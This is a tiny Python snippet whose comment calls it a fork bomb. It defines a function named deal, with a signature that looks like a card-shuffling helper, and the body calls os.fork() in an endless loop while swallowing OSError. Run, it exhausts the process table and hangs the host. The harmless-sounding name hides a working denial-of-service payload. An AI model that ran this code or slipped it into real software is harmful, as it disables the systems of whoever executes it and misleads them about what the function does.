# A fork bomb that takes no for an answer.
import os



def deal(shuf: list[int]) -> list[int]:
    while True:
        try:
            os.fork()
        except OSError:
            pass
